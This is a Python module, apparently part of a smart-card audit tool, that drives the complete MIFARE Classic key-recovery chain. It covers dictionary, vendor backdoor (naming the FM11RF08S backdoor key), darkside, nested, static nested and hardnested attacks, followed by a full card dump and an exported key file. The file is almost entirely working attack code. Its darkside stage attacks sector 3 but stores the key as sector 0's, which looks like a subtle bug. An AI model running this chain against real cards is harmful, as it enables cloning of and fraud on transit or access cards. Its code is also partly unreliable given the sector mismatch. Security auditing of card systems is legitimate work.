"""The whole MIFARE Classic key-recovery chain for one card, in the order Proxmark3's ``hf mf autopwn`` runs it.

dictionary → vendor backdoor (FM11RF08S static encrypted nonces) → darkside when no key is known (chips that leak
the encrypted NAK) → for every key still missing, the attack the chip's nonces allow (nested: weak PRNG; static
nested: static nonce; hardnested: hardened) from a known key → every new key tried on the other sectors → every
block read. Each stage runs only where it applies; the result says which ran, which could not and why, and keeps
every key found even when a later one runs out of the time budget. Frames only: the chip must pass raw frames
(an image in process, or a PN532).
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Final

from audit import m1_attacks as attacks
from audit.m1_attacks import AttackFailed, PrngClass
from cardsim.files import JSONValue
from cardsim.mifare import BLOCK_SIZE, BLOCKS, key_b_readable
from terminals.m1 import FrameSlot, M1Chip, M1Error, M1Slot

Slot = tuple[int, int]  # (sector, 0x60 key A | 0x61 key B)
SECTORS: Final = 16
SLOTS: Final[tuple[Slot, ...]] = tuple((s, t) for s in range(SECTORS) for t in (0x60, 0x61))
KEY_LETTER: Final = {0x60: "A", 0x61: "B"}
# How a key was found, and the finding each attack is reported as (dictionary keys are M1-DEFAULT-KEY's).
DICTIONARY, FLEET, TRAILER, REUSED = "dictionary", "fleet key", "read from trailer", "reused"
ATTACK_RULES: Final = {
    "darkside": "M1-DARKSIDE",
    "nested": "M1-KEY-RECOVERED",
    "hardnested": "M1-HARDNESTED",
    "static nested": "M1-STATIC-NESTED",
    "backdoor": "M1-BACKDOOR-RECOVERY",
}
Progress = Callable[[str], None]


@dataclass(frozen=True)
class FoundKey:
    """A sector key and how it fell; ``source`` names the slot a reused key was found on first."""

    key: int
    how: str
    seconds: float
    source: Slot | None = None


@dataclass(frozen=True)
class Stage:
    """One stage of the chain: ``outcome`` is ran, skipped or failed; ``why`` says what it did or why not."""

    name: str
    outcome: str
    why: str
    seconds: float = 0.0


@dataclass
class Autopwn:
    """Everything the chain learned about one card."""

    uid: bytes
    sak: int
    atqa: bytes
    prng: PrngClass | None  # None: not seen (the reader passes no raw frames)
    backdoor: bool
    keys: dict[Slot, FoundKey] = field(default_factory=dict)
    stages: list[Stage] = field(default_factory=list)
    blocks: list[bytes | None] = field(default_factory=lambda: [None] * BLOCKS)

    @property
    def missing(self) -> list[Slot]:
        """The slots whose key is still unknown."""
        return [slot for slot in SLOTS if slot not in self.keys]

    def table(self) -> str:
        """Sector | key A | key B | how found | seconds, as printed."""
        lines = ["sector  key A         key B         how found (A / B)                      seconds (A / B)"]
        for sector in range(SECTORS):
            cells = [self.keys.get((sector, t)) for t in (0x60, 0x61)]
            keys = [f"{c.key:012X}" if c else "?" * 12 for c in cells]
            hows = " / ".join(c.how if c else "not found" for c in cells)
            secs = " / ".join(f"{c.seconds:.2f}" if c else "-" for c in cells)
            lines.append(f"{sector:>6}  {keys[0]}  {keys[1]}  {hows:<38} {secs}")
        lines.append(f"{len(self.keys)} of {len(SLOTS)} keys")
        return "\n".join(lines)

    def dump(self) -> bytes:
        """The 1 KB image (.mfd/.bin): blocks as read, unread ones zero, trailers with the keys found (a card
        never reads back key A)."""
        out = bytearray()
        for block in range(BLOCKS):
            data = bytearray(self.blocks[block] or bytes(BLOCK_SIZE))
            if block % 4 == 3:
                sector = block // 4
                for key_type, at in ((0x60, 0), (0x61, 10)):
                    found = self.keys.get((sector, key_type))
                    if found is not None:
                        data[at : at + 6] = found.key.to_bytes(6)
            out += data
        return bytes(out)

    def to_json(self) -> dict[str, JSONValue]:
        """The dump as JSON (Proxmark3's layout: Card, blocks, SectorKeys), plus how each key fell."""
        image = self.dump()
        sector_keys: dict[str, JSONValue] = {}
        for sector in range(SECTORS):
            entry: dict[str, JSONValue] = {}
            for key_type in (0x60, 0x61):
                found = self.keys.get((sector, key_type))
                letter = KEY_LETTER[key_type]
                entry[f"Key{letter}"] = f"{found.key:012X}" if found else None
                entry[f"Key{letter}Found"] = found.how if found else None
            entry["AccessConditions"] = image[sector * 64 + 54 : sector * 64 + 58].hex().upper()
            sector_keys[str(sector)] = entry
        return {
            "Created": "yikatong audit autopwn",
            "FileType": "mfc v2",
            "Card": {"UID": self.uid.hex().upper(), "ATQA": self.atqa[::-1].hex().upper(), "SAK": f"{self.sak:02X}"},
            "blocks": {
                str(b): (image[b * 16 : b * 16 + 16].hex().upper() if self.blocks[b] is not None else None)
                for b in range(BLOCKS)
            },
            "SectorKeys": sector_keys,
            "stages": [
                {"stage": s.name, "outcome": s.outcome, "why": s.why, "seconds": round(s.seconds, 2)}
                for s in self.stages
            ],
        }

    def key_file(self) -> str:
        """The distinct keys found, one per line: a dictionary other tools take (``hf mf chk -f``, mfoc -f)."""
        return "".join(f"{k:012X}\n" for k in sorted({f.key for f in self.keys.values()}))


class _Budget:
    def __init__(self, seconds: float | None) -> None:
        self.deadline = None if seconds is None else time.monotonic() + seconds

    def left(self) -> float | None:
        """Seconds left (None: no limit); AttackFailed when none are."""
        if self.deadline is None:
            return None
        left = self.deadline - time.monotonic()
        if left <= 0:
            raise AttackFailed("the time budget ran out")
        return left


def autopwn(
    chip: M1Chip,
    *,
    max_seconds: float | None = None,
    dictionary: Iterable[int] = attacks.DEFAULT_KEYS,
    fleet_keys: Iterable[int] = (),
    hardnested_key_bits: tuple[int, int] | None = None,
    progress: Progress = lambda _: None,
) -> Autopwn:
    """Run the chain on ``chip`` (raw frames). ``fleet_keys`` (keys broken out of other cards) are tried after
    the public dictionary and before any attack. ``hardnested_key_bits`` (mask, value) fixes part of each unknown
    key for hardnested (a test-size search; say so wherever the result is shown)."""
    chip.power_on()
    uid, sak, atqa = chip.anticollision()
    uid_int = int.from_bytes(uid)
    prng = attacks.classify_prng(attacks.collect_nonces(chip, 8))
    result = Autopwn(uid, sak, atqa, prng, attacks.accepts_backdoor_key(chip))
    name = uid.hex().upper()
    budget = _Budget(max_seconds)
    slot_reader = FrameSlot(chip)

    def found(slot: Slot, key: int, how: str, seconds: float, source: Slot | None = None) -> None:
        result.keys[slot] = FoundKey(key, how, seconds, source)
        progress(f"M1 card {name}: sector {slot[0]} key {KEY_LETTER[slot[1]]} = {key:012X} ({how}, {seconds:.2f} s)")

    def reuse(slot: Slot) -> None:
        """A new key tried on every slot still missing (fleets and lazy issuers repeat keys)."""
        key = result.keys[slot].key
        for other in result.missing:
            start = time.perf_counter()
            if attacks.try_key(slot_reader, other[0] * 4 + 3, key, other[1]):
                found(other, key, REUSED, time.perf_counter() - start, slot)

    _dictionary(slot_reader, result, list(dictionary), found)
    _fleet_keys(slot_reader, result, list(fleet_keys), found)
    if result.backdoor and result.missing:
        _backdoor(chip, uid_int, result, budget, found, reuse, progress)
    if not result.keys:
        _darkside(chip, result, budget, found, reuse, progress)
    _per_key(chip, uid_int, result, budget, found, reuse, hardnested_key_bits, progress)
    _read_blocks(slot_reader, result)
    chip.power_on()
    return result


RAW_STAGES: Final = ("backdoor", "darkside", "nested / static nested / hardnested")


def autopwn_blocks(
    card: M1Slot, reader: str, *, dictionary: Iterable[int] = attacks.DEFAULT_KEYS, progress: Progress = lambda _: None
) -> Autopwn:
    """The part of the chain a block-level reader (PC/SC Part 3, named ``reader``) permits: the dictionary, key B
    from readable trailers, and the dump; the attacks are listed as skipped (they need raw frames)."""
    uid = card.uid()
    result = Autopwn(uid, 0x08, b"\x04\x00", None, False)  # a Part 3 ATR naming Classic 1K implies SAK 08, ATQA 0004

    def found(slot: Slot, key: int, how: str, seconds: float, source: Slot | None = None) -> None:
        result.keys[slot] = FoundKey(key, how, seconds, source)
        progress(f"M1 card {uid.hex().upper()}: sector {slot[0]} key {KEY_LETTER[slot[1]]} = {key:012X} ({how})")

    _dictionary(card, result, list(dictionary), found)
    for stage in RAW_STAGES:
        result.stages.append(Stage(stage, "skipped", f"{reader} passes no raw frames (a PN532 does: --pn532)"))
    _read_blocks(card, result)
    return result


def _dictionary(card: M1Slot, result: Autopwn, keys: list[int], found: Found) -> None:
    start = time.perf_counter()
    for slot, key in attacks.dictionary_attack(card, keys).items():
        found(slot, key, DICTIONARY, 0.0)
    result.stages.append(
        Stage("dictionary", "ran", f"{len(result.keys)} of 32 keys from {len(keys)} keys", _since(start))
    )
    _trailer_keys(card, result, found)


def _fleet_keys(card: M1Slot, result: Autopwn, keys: list[int], found: Found) -> None:
    """Keys broken out of other cards of the fleet, on every slot still missing."""
    fresh = [k for k in dict.fromkeys(keys) if k not in attacks.DEFAULT_KEYS]
    if not fresh or not result.missing:
        return
    start = time.perf_counter()
    before = len(result.keys)
    for slot, key in attacks.dictionary_attack(card, fresh, sectors=range(SECTORS)).items():
        if slot not in result.keys:
            found(slot, key, FLEET, 0.0)
    why = f"{len(result.keys) - before} keys from {len(fresh)} keys found on other cards of the fleet"
    result.stages.append(Stage("fleet keys", "ran", why, _since(start)))


def _since(start: float) -> float:
    return time.perf_counter() - start


Found = Callable[[Slot, int, str, float], None]


def _trailer_keys(card: M1Slot, result: Autopwn, found: Found) -> None:
    """Key B read from each trailer whose key A is known and whose access bits let key B be read."""
    for sector in range(SECTORS):
        key_a = result.keys.get((sector, 0x60))
        if key_a is None or (sector, 0x61) in result.keys:
            continue
        try:
            trailer = card.session()
            trailer.authenticate(sector * 4 + 3, key_a.key, 0x60)
            data = trailer.read_block(sector * 4 + 3)
        except M1Error:
            continue
        if key_b_readable(data):
            found((sector, 0x61), int.from_bytes(data[10:16]), TRAILER, 0.0)


def _backdoor(
    chip: M1Chip,
    uid: int,
    result: Autopwn,
    budget: _Budget,
    found: Found,
    reuse: Callable[[Slot], None],
    progress: Progress,
) -> None:
    """Sector by sector through the vendor key, each new key tried on the sectors still to come (a repeated key
    costs one authentication, not a recovery)."""
    from audit.static_nested import backdoor_recovery

    start = time.perf_counter()
    before = len(result.keys)
    why = ""
    for sector in range(SECTORS):
        if (sector, 0x60) in result.keys and (sector, 0x61) in result.keys:
            continue
        one = time.perf_counter()
        try:
            keys = backdoor_recovery(chip, uid, max_seconds=budget.left(), progress=progress, sectors=[sector])
        except AttackFailed as err:
            why = f"; stopped at sector {sector}: {err}"
            break
        for slot, key in sorted(keys.items()):
            if slot not in result.keys:
                found(slot, key, "backdoor", _since(one) / len(keys))
                reuse(slot)
        if len(keys) < 2:
            why = f"; sector {sector}: the budget ran out"
            break
    outcome = "ran" if len(result.keys) > before else "failed"
    what = f"{len(result.keys) - before} keys through the vendor key A396EFA4E24F and its static nested nonces"
    result.stages.append(Stage("backdoor", outcome, what + why, _since(start)))


def _darkside(
    chip: M1Chip, result: Autopwn, budget: _Budget, found: Found, reuse: Callable[[Slot], None], progress: Progress
) -> None:
    from audit.darkside import darkside_attack

    start = time.perf_counter()
    target = (0, 0x60)
    try:
        key = darkside_attack(chip, (3, 0x60), max_seconds=budget.left(), progress=progress)
    except AttackFailed as err:
        result.stages.append(Stage("darkside", "failed", str(err), _since(start)))
        return
    found(target, key, "darkside", _since(start))
    result.stages.append(Stage("darkside", "ran", "sector 0 key A with no key known", _since(start)))
    reuse(target)


def _per_key(
    chip: M1Chip,
    uid: int,
    result: Autopwn,
    budget: _Budget,
    found: Found,
    reuse: Callable[[Slot], None],
    key_bits: tuple[int, int] | None,
    progress: Progress,
) -> None:
    """Every missing key by the attack the chip's nonces allow, from the first key known."""
    if not result.missing:
        return
    attack = {PrngClass.WEAK: "nested", PrngClass.STATIC: "static nested", PrngClass.HARDENED: "hardnested"}[
        result.prng or PrngClass.HARDENED
    ]
    if not result.keys:
        result.stages.append(Stage(attack, "skipped", "it needs one known key and no stage found any"))
        return
    if result.backdoor:  # its nested nonces are static per slot: only the backdoor stage breaks them
        result.stages.append(Stage(attack, "skipped", "an FM11RF08S answers nested nonces fixed per slot"))
        return
    failures: list[str] = []
    start = time.perf_counter()
    done = 0
    for target in result.missing:
        if target in result.keys:
            continue  # a reused key filled it meanwhile
        known_slot, known = next(iter(sorted(result.keys.items())))
        known_args = (known_slot[0] * 4 + 3, known.key, known_slot[1])
        target_args = (target[0] * 4 + 3, target[1])
        one = time.perf_counter()
        try:
            left = budget.left()
            key = _run(attack, chip, uid, known_args, target_args, left, key_bits, progress)
        except (AttackFailed, M1Error) as err:
            failures.append(f"sector {target[0]} key {KEY_LETTER[target[1]]}: {err}")
            if "budget" in str(err):
                break
            continue
        found(target, key, attack, _since(one))
        done += 1
        reuse(target)
    why = f"{done} keys from sector {sorted(result.keys)[0][0]}'s key" + (
        f"; not found: {'; '.join(failures)}" if failures else ""
    )
    result.stages.append(Stage(attack, "ran" if done or not failures else "failed", why, _since(start)))


def _run(
    attack: str,
    chip: M1Chip,
    uid: int,
    known: tuple[int, int, int],
    target: tuple[int, int],
    left: float | None,
    key_bits: tuple[int, int] | None,
    progress: Progress,
) -> int:
    if attack == "nested":
        return attacks.nested_attack(chip, uid, known, target)
    if attack == "static nested":
        from audit.static_nested import static_nested_attack

        return static_nested_attack(chip, uid, known, target, max_seconds=left, progress=progress)
    from audit.hardnested import hardnested_attack

    return hardnested_attack(chip, uid, known, target, max_seconds=left, progress=progress, known_key_bits=key_bits)


def _read_blocks(card: M1Slot, result: Autopwn) -> None:
    """Every block read with a known key of its sector that may read it (each try a fresh session: a refused
    READ ends the card's session)."""
    for block in range(BLOCKS):
        for key_type in (0x60, 0x61):
            known = result.keys.get((block // 4, key_type))
            if known is None:
                continue
            try:
                session = card.session()
                session.authenticate(block | 3, known.key, key_type)
                result.blocks[block] = session.read_block(block)
            except M1Error:
                continue
            break
